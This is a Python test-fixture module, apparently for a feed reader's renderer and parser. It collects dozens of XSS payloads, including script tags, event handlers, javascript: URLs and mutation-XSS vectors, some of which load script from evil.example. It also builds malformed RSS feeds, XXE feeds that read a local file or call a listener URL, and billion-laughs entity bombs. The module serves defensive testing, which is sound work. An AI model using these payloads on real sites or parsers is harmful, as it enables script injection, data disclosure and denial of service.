"""Hostile inputs, by name: script vectors, broken and lying feeds, bombs.

Built in code rather than stored as files so each reads as what it attacks. The README's
counts come from the lengths of these collections.
"""
# ruff: noqa: RUF001  (CJK text has full-width punctuation on purpose)

from __future__ import annotations

import codecs

# -- script in every form ----------------------------------------------------------------

SCRIPT_VECTORS: dict[str, str] = {
    "script tag": "<script>alert(1)</script>",
    "script tag, upper case, external": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split by script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with slash attribute": '<script/xss src="//evil.example/x.js"></script>',
    "script, double open": "<<script>alert(1)//<</script>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "img ONERROR upper case": '<img src="x" ONERROR="alert(1)">',
    "img slash separated": "<img/src=x/onerror=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "div onmouseover": '<div onmouseover="alert(1)">hover</div>',
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "input autofocus onfocus": "<input onfocus=alert(1) autofocus>",
    "video source onerror": '<video><source onerror="alert(1)"></video>',
    "audio onerror": "<audio src=x onerror=alert(1)>",
    "a href javascript": '<a href="javascript:alert(1)">x</a>',
    "a href mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a href leading space": '<a href="  javascript:alert(1)">x</a>',
    "a href tab inside": '<a href="java\tscript:alert(1)">x</a>',
    "a href newline inside": '<a href="java\nscript:alert(1)">x</a>',
    "a href decimal entities": '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    "a href hex entity and colon entity": '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    "a href colon as entity": '<a href="javascript&#58;alert(1)">x</a>',
    "a href vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a href data html": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a href data html base64": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'
    ),
    "img src javascript": '<img src="javascript:alert(1)">',
    "img srcset javascript": '<img src="a.png" srcset="javascript:alert(1) 1x">',
    "img lazy data-src javascript": '<img data-src="javascript:alert(1)" alt="a">',
    "img lazy data-original data html": '<img data-original="data:text/html,<b>x</b>">',
    "picture source javascript": (
        '<picture><source srcset="javascript:alert(1)"><img src="javascript:alert(2)"></picture>'
    ),
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "embed svg": '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    "form action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">go</button>',
    "svg onload": "<svg onload=alert(1)>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "svg a xlink:href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg animate to javascript": (
        '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>'
    ),
    "math mXSS": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript mXSS": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "style expression": '<p style="width: expression(alert(1))">x</p>',
    "style url javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "style element import": "<style>@import 'javascript:alert(1)';</style>",
    "style behavior": "<style>*{behavior:url(x.htc)}</style>",
    "style moz-binding": '<div style="-moz-binding:url(x.xml#xss)">x</div>',
    "link stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "template": "<template><script>alert(1)</script></template>",
    "comment hiding script": "<!--<script>alert(1)</script>-->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata script": "<![CDATA[<script>alert(1)</script>]]>",
    # Text that becomes script only if the Markdown converter does not escape it.
    "markdown link in text": "<p>[click](javascript:alert(1))</p>",
    "markdown image in text": "<p>![x](javascript:alert(1))</p>",
    "markdown autolink in text": "<p>&lt;javascript:alert(1)&gt;</p>",
    "markdown reference definition": "<p>[x]: javascript:alert(1)</p><p>[x]</p>",
    "escaped script in text": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "escaped img in text": "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "escaped script in code": "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>",
    # A GFM autolink swallows the backslash of a "\<" right after it (found by fuzzing).
    "autolink then escaped img": "<p>https://ok.example/&lt;img src=x onerror=alert(1)&gt;</p>",
    "autolink then escaped autolink": "<p>www.ok.example&lt;javascript:alert(1)&gt;</p>",
    "quote breaking out of href": (
        '<a href="https://x.example/&quot; onclick=&quot;alert(1)">x</a>'
    ),
    "quote breaking out of alt": (
        '<img src="https://x.example/a.png" alt="&quot; onerror=&quot;alert(1)">'
    ),
    "quote breaking out of title": (
        '<a href="https://x.example/" title="&quot;onmouseover=alert(1)">x</a>'
    ),
}

# Titles, authors and captions go through the renderer's own escaping.
HOSTILE_TITLES: list[str] = [
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "https://ok.example/<img src=x onerror=alert(1)>",
    "www.ok.example<javascript:alert(1)>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1)) &lt;script&gt;",
]

# -- feeds -------------------------------------------------------------------------------

GOOD_ITEM = (
    "<item><title>{title}</title><link>{link}</link><guid>{guid}</guid>"
    "<pubDate>Mon, 02 Nov 2026 08:00:00 +0000</pubDate>"
    "<description>{text}</description></item>"
)


def rss(items: str, *, declaration: str = '<?xml version="1.0" encoding="utf-8"?>') -> str:
    return f'{declaration}<rss version="2.0"><channel><title>t</title>{items}</channel></rss>'


MALFORMED_FEEDS: dict[str, bytes] = {
    "unclosed item": b'<?xml version="1.0"?><rss version="2.0"><channel><item><title>a',
    "mismatched tags": b"<rss version='2.0'><channel><item><title>a</link></item></channel></rss>",
    "truncated in a tag": b"<rss version='2.0'><channel><item><title>a</title><li",
    "NUL bytes": b"<rss version='2.0'>\x00\x00<channel>\x00</channel></rss>",
    "control characters": b"<rss version='2.0'><channel><title>\x01\x0b</title></channel></rss>",
    "binary garbage": bytes(range(256)) * 8,
    "only a declaration": b'<?xml version="1.0" encoding="utf-8"?>',
    "unknown root": b'<?xml version="1.0"?><catalog><book>x</book></catalog>',
    "two roots": b"<rss version='2.0'><channel/></rss><rss version='2.0'><channel/></rss>",
    "unterminated CDATA": b"<rss version='2.0'><channel><item><title><![CDATA[a</title></item>",
    "HTML login wall": b"<!DOCTYPE html><html><head><title>Log in</title></head><body></html>",
    "JSON where RSS expected": b'{"version": "https://jsonfeed.org/version/1.1", "items": []}',
    "PHP error page": b"<br />\n<b>Fatal error</b>: Allowed memory size exhausted in <b>x</b>",
}

SECRET_FILE_MARKER = "samizdat-xxe-canary-7f3a"


def _item(title: str, text: str) -> str:
    return GOOD_ITEM.format(title=title, link="https://a.example/1", guid="1", text=text)


def _with_prolog(prolog: str, items: str) -> bytes:
    return (f'<?xml version="1.0"?>{prolog}' + rss(items, declaration="")).encode()


def xxe_feeds(secret_path: str, listener_url: str) -> dict[str, bytes]:
    """Feeds that try to read ``secret_path`` or call ``listener_url`` through XML."""
    file_url = f"file://{secret_path}"
    return {
        "external entity, file": _with_prolog(
            f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file_url}">]>', _item("&x;", "&x;")
        ),
        "external entity, http": _with_prolog(
            f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{listener_url}/xxe">]>', _item("&x;", "&x;")
        ),
        "parameter entity, http": _with_prolog(
            f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{listener_url}/dtd"> %p;]>', _item("t", "x")
        ),
        "external DTD": _with_prolog(
            f'<!DOCTYPE rss SYSTEM "{listener_url}/rss.dtd">', _item("t", "x")
        ),
        "XInclude": (
            '<?xml version="1.0"?><rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude">'
            "<channel><title>t</title><item><title>t</title><link>https://a.example/1</link>"
            f'<description><xi:include href="{file_url}" parse="text"/></description></item>'
            "</channel></rss>"
        ).encode(),
    }


def billion_laughs(levels: int = 10) -> bytes:
    entities = ['<!ENTITY e0 "ha">'] + [
        f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, levels)
    ]
    top = f"&e{levels - 1};"
    return _with_prolog(f"<!DOCTYPE rss [{''.join(entities)}]>", _item(top, top))


def quadratic_blowup(size: int = 100_000, uses: int = 10_000) -> bytes:
    prolog = f'<!DOCTYPE rss [<!ENTITY a "{"a" * size}">]>'
    return _with_prolog(prolog, _item("t", "&a;" * uses))


# Texts in the scripts whose legacy encodings feeds get wrong.
CJK_TEXTS: dict[str, tuple[str, str]] = {
    "gbk": ("广州地铁新线今日开通", "新线全长三十公里，设站二十座，连接城市东部与机场。"),
    "big5": (
        "台北市政府宣布新交通政策",
        "市政府表示將於下月實施新的交通管理辦法，以改善市區壅塞問題。",
    ),
    "shift_jis": (
        "東京で新しい美術館が開館",
        "新しい美術館は駅から徒歩五分の場所にあり、多くの来館者が訪れた。",
    ),
}


def encoded_feed(text_encoding: str, label: str | None) -> bytes:
    """A two-item feed in ``text_encoding`` whose declaration says ``label``."""
    title, body = CJK_TEXTS.get(text_encoding, CJK_TEXTS["gbk"])
    items = "".join(
        GOOD_ITEM.format(
            title=f"{title} {i}", link=f"https://a.example/{i}", guid=str(i), text=body
        )
        for i in range(2)
    )
    declaration = f'<?xml version="1.0" encoding="{label}"?>' if label else '<?xml version="1.0"?>'
    encoding = "utf-8" if text_encoding == "utf-8" else text_encoding
    return rss(items, declaration=declaration).encode(encoding)


def utf16_feed() -> bytes:
    title, body = CJK_TEXTS["gbk"]
    items = GOOD_ITEM.format(title=title, link="https://a.example/1", guid="1", text=body)
    return codecs.BOM_UTF16_LE + rss(
        items, declaration='<?xml version="1.0" encoding="utf-16"?>'
    ).encode("utf-16-le")
